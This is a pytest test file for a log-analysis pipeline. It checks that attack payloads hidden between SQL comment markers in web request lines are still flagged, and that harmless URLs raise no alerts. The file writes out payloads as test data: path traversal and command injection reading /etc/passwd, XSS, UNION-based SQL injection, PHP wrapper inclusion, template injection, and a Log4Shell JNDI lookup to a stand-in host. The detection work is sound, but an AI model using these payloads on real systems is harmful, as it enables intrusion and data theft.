"""A SQL comment hides nothing from the rules that are not about SQL: ``/*`` in one parameter
and ``*/`` in a later one left the payload between them unread by every rule (red-team finding
at 2565df6), while the application still got every parameter whole."""

from __future__ import annotations

import pytest

from lwsyslog.config import load_config
from lwsyslog.events import Origin
from lwsyslog.normalize import decode
from lwsyslog.pipeline import Pipeline
from lwsyslog.severity import Severity

_HEAD = '203.0.113.5 - - [07/Dec/2026:10:00:00 +0000] "GET '


def _line(target: str, user_agent: str = "Mozilla/5.0") -> str:
    return f'{_HEAD}{target} HTTP/1.1" 200 123 "-" "{user_agent}"'


HIDDEN = [
    (_line("/view.php?a=/*&file=../../../../etc/passwd&b=*/"), "path-traversal-dotdot"),
    (_line("/s.php?a=/*&q=%3Csvg/onload=eval(name)%3E&b=*/"), "xss-event-handler"),
    (
        _line("/p.php?a=/*&id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-&b=*/"),
        "sqli-union-select",
    ),
    (_line("/p.php?a=/*&ip=127.0.0.1;cat%20/etc/passwd&b=*/"), "command-injection-chain"),
    (
        _line("/p.php?a=/*&page=php://filter/convert.base64-encode/resource=index&b=*/"),
        "file-inclusion-wrapper",
    ),
    (_line("/p.php?a=/*&tpl={{self.__init__.__globals__}}&b=*/"), "code-injection-template"),
    (_line("/?a=/*&x=${jndi:ldap://198.51.100.9/a}&b=*/"), "log4shell-jndi"),
    (_line("/", "/* ${jndi:ldap://198.51.100.9/a} */"), "log4shell-jndi"),
]


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline(load_config([]))


@pytest.mark.parametrize(("line", "rule_id"), HIDDEN, ids=[h[0][48:96] for h in HIDDEN])
def test_a_payload_between_comment_marks_is_still_found(
    pipeline: Pipeline, line: str, rule_id: str
) -> None:
    result = pipeline.process(line, Origin("red-team", 1))
    assert rule_id in {finding.rule_id for finding in result.findings}


@pytest.mark.parametrize(
    "target",
    [
        "/item.php?id=1%20UNION/**/SELECT%20password%20FROM%20users",
        "/item.php?id=1%20UNION/*junk*/SELECT%20password%20FROM%20users",
        "/item.php?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%20password%20FROM%20users",
    ],
)
def test_sql_read_through_comments_is_still_found(pipeline: Pipeline, target: str) -> None:
    result = pipeline.process(_line(target), Origin("red-team", 2))
    assert "sqli-union-select" in {finding.rule_id for finding in result.findings}


def test_text_without_a_whole_comment_is_decoded_as_before() -> None:
    assert decode("/api/*/items") == "/api/*/items"
    assert decode("a /* b") == "a /* b"
    assert decode("union/**/select") == "union select"


@pytest.mark.parametrize(
    "target",
    [
        "/p?ls&x=/*a*/",
        "/p?uname&x=/*a*/",
        "/p?cat&x=/*c*/",
        "/p?id&c=/*x*/",
        "/p?set-cookie:a/*b*/",
        "/search?glob=src/**/*.js&q=ls",
    ],
)
def test_the_second_text_does_not_start_a_line_a_rule_reads(
    pipeline: Pipeline, target: str
) -> None:
    """Joined by a bare newline, the field's first word read as a command or a header after a
    line break: a critical command-injection-chain on '\\nid' (review finding)."""
    result = pipeline.process(_line(target), Origin("false-flag", 1))
    assert [f.rule_id for f in result.findings if f.severity.rank >= Severity.MEDIUM.rank] == []
